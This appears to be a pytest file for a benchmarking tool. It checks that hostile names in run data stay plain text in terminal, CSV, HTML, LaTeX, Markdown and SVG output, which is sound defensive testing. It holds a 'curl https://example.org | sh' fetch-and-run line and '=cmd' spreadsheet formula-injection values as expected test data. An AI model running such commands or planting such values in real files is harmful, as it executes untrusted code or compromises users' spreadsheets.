"""Names in a run stay text on the terminal, in tables, LaTeX, Markdown, figures, the page."""

from __future__ import annotations

import csv
import html.parser
import os
import re
import sys
import xml.etree.ElementTree as ET
from collections import Counter

import pytest
from tests.end_to_end.hostile import (
    NAMES,
)
from tests.end_to_end.trust.site import (
    READ,
    Site,
)

from distillation_bench.bench.storage import tables as derived
from distillation_bench.bench.storage.formats.csv_files import spreadsheet_safe
from distillation_bench.bench.storage.run_folder import Run


def test_names_send_no_control_characters_and_lead_to_no_file(hostile: Site) -> None:
    hostile.cache.mkdir()
    first = next(iter(Run(hostile.run).manifest()["cells"]))
    for line in READ.values():
        if not line.startswith("plot"):
            assert hostile(*line.replace("d kd 0", first).split()).returncode == 0, line
    for path in hostile.out.rglob("*"):
        assert path.name.isprintable() and len(os.fsencode(path.name)) <= 255
    curves = {path.parts[-4:] for path in (hostile.out / "curves").rglob("events*")}
    assert len(curves) == len(NAMES), "each of its own folder"
    # The command of an untrusted run is not offered.
    output = hostile("why", "run", first).stdout
    assert "unknown how" in output and "curl https://example.org | sh" in output
    assert f"--results {hostile.run.name}" not in output


def test_rows_are_read_as_written_whatever_the_names(hostile: Site) -> None:
    run = Run(hostile.run)
    cells = run.manifest()["cells"].values()
    planned = {(cell["dataset"], cell["label"], cell["seed"]) for cell in cells}
    assert {(r["dataset"], r["label"], int(r["seed"])) for r in derived.results(run)} == planned
    assert {(r[0], r[2], int(r[3])) for r in derived.metrics(run)} <= planned
    (hostile.run / "results.csv").unlink()
    assert {(r["dataset"], r["label"], int(r["seed"])) for r in derived.results(run)} == planned
    for command in ("table run --csv", "export run --out", "compare run --csv"):
        hostile(*command.split(), "out/rows.csv")
        with (hostile.out / "rows.csv").open(newline="", encoding="utf-8") as file:
            rows = list(csv.DictReader(file, strict=True))
        datasets = {row["dataset"] for row in rows}
        assert (
            datasets <= {spreadsheet_safe(dataset) for dataset, _, _ in planned}
            and None not in rows[0]
        )
        # Tables for spreadsheets run no formula; the run's own tables are unchanged.
        values = [value for row in rows for value in row.values()]
        assert not [v for v in values if v.startswith("=")] and any("=cmd" in v for v in values)
    assert "=cmd" in {label[:4] for _, label, _ in planned}


@pytest.mark.parametrize(
    "line", ["export run --out -", "table run --csv -", "compare run --json -"]
)
def test_data_on_a_terminal_has_no_control_characters(
    hostile: Site, monkeypatch: pytest.MonkeyPatch, line: str
) -> None:
    piped = hostile(*line.split(), data=True).stdout
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    output = hostile(*line.split()).stdout
    assert output != piped or "--json" in line
    assert sum(map(str.isalnum, output)) == sum(map(str.isalnum, piped))


class Elements(html.parser.HTMLParser):
    """The elements of a page without its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.counts: Counter[tuple[str, ...]] = Counter()
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.counts[tag, *(name for name, _ in attributes)] += 1
        for name, value in attributes:
            if name in ("href", "src"):
                assert value and (value.startswith(("#", "data:"))), value


def test_names_are_text_on_the_page(hostile: Site) -> None:
    pages = []
    for run in ("run", "harmless"):
        assert hostile("report", run, "--no-figures", "--out", "out/page.html").returncode == 0
        text = (hostile.out / "page.html").read_text(encoding="utf-8")
        # Names may be broken after a comma, which adds an element.
        pages.append(Elements(text.replace("<wbr>", "")).counts)
    assert pages[0] == pages[1]


COMMAND = re.compile(r"\\(?:[A-Za-z]+|.)")


def test_names_are_text_in_latex(hostile: Site) -> None:
    printed = {rf"\{sign}" for sign in "&%#_{}`'^~=\"\\"} | {r"\i", r"\u", r"\lambda"}
    printed |= {rf"\text{name}" for name in ("backslash", "asciitilde", "asciicircum")}
    printed |= {rf"\text{name}" for name in ("less", "greater", "bar")} | {r"\mathdollar", r"\pm"}
    for command in ("table {} --latex", "table {} --macros", "compare {} --latex"):
        texts = []
        for run in ("run", "harmless"):
            hostile(*command.format(run).split(), "out/t.tex")
            text = (hostile.out / "t.tex").read_text(encoding="ascii")
            texts.append(re.sub(r"(?<!\\)%.*", "", text))
        commands, usual = (
            {name for name in COMMAND.findall(text) if not name.startswith(r"\res")}
            for text in texts
        )
        assert commands <= usual | printed, command
        # Whole, with no command of TeX's own way to write characters.
        assert "^^" not in texts[0]
        plain = re.sub(r"\\.", "", texts[0])
        assert plain.count("{") == plain.count("}") and plain.count("$") % 2 == 0


def test_names_are_text_in_markdown(hostile: Site) -> None:
    hostile("table", "run", "--markdown", "out/t.md")
    board = hostile("board", "run", "--markdown").stdout
    for text in ((hostile.out / "t.md").read_text(encoding="utf-8"), board):
        assert "script" in text and "javascript" in text
        assert not re.search(r"(?<!\\)<[a-z/]|(?<!\\)\]\(", text)


def test_names_are_drawn_as_text(hostile: Site) -> None:
    done = hostile(
        "plot", "run", "-d", NAMES[0], "-f", "training", "--format", "svg", "--out", "out"
    )
    assert done.returncode == 0 and "Glyph" not in done.stderr
    (drawing,) = hostile.out.iterdir()
    elements = {element.tag.rpartition("}")[2] for element in ET.parse(drawing).iter()}
    assert elements <= {
        *("svg", "metadata", "RDF", "Work", "type", "date", "format", "creator"),
        *("Agent", "title", "defs", "style", "g", "path", "use", "clipPath", "rect", "image"),
    }
